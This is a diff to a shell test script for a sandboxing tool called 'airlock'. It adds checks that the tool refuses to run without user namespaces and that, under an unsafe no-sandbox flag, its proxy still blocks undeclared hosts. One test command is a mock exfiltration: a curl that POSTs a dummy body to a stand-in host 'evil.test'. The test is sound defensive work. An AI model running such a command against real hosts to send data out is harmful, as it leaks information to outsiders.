@@ -203,6 +203,36 @@ else
   echo "run_test: the binary is not reachable as nobody here; the ordinary-user check is skipped" >&2
 fi
 
+# --- no sandbox on this kernel: refused, unless --unsafe-no-sandbox ---------------------------
+# A user namespace whose user.max_user_namespaces is 0 is a kernel where airlock cannot make one.
+if unshare -Ur true 2>/dev/null; then
+  nosandbox() {
+    set +e
+    OUT=$(unshare -Ur sh -c 'echo 0 >/proc/sys/user/max_user_namespaces && exec "$@"' sh \
+      "$AIRLOCK" --policy "$WORK/policy.yaml" run --user alice --agent tester --workspace "$W" "${RES[@]}" \
+      --session s-unsafe "$@" 2>&1)
+    RC=$?
+    set -e
+  }
+  nosandbox -- bash -c 'echo RAN'
+  expect_eq "no sandbox: refused with 125" "$RC" 125
+  expect_contains "no sandbox: says why" "$OUT" "user namespaces are not available"
+  expect_not_contains "no sandbox: the command did not run" "$OUT" "RAN"
+  upstream_mark
+  nosandbox --unsafe-no-sandbox -- bash -c "echo \$AIRLOCK_SANDBOX; \
+    curl -sS --max-time 10 -o /dev/null -w 'allowed %{http_code};' http://allowed.test:$UP_HTTP/unsafe-allowed; \
+    curl -sS --max-time 10 -o /dev/null -w 'evil %{http_code};' -d EVIL-BODY-2 http://evil.test:$UP_HTTP/unsafe-evil; \
+    exit 3"
+  expect_eq "--unsafe-no-sandbox: the command's status" "$RC" 3
+  expect_contains "--unsafe-no-sandbox: warns" "$OUT" "WARNING: NO SANDBOX"
+  expect_contains "--unsafe-no-sandbox: the command knows" "$OUT" "none"
+  expect_contains "--unsafe-no-sandbox: an allowed sink through the proxy" "$OUT" "allowed 200;"
+  expect_contains "--unsafe-no-sandbox: an undeclared host refused by the proxy" "$OUT" "evil 403;"
+  expect_eq "--unsafe-no-sandbox: only the allowed request arrived" "$(new_upstream_requests)" 1
+else
+  echo "run_test: unshare -Ur is not available here; the no-sandbox checks are skipped" >&2
+fi
+
 # --- the audit trail --------------------------------------------------------------------------
 AUDIT=$("$AIRLOCK" audit export 2>&1 || true)
 expect_contains "refused system calls are recorded" "$AUDIT" "deny.sandbox.syscall"
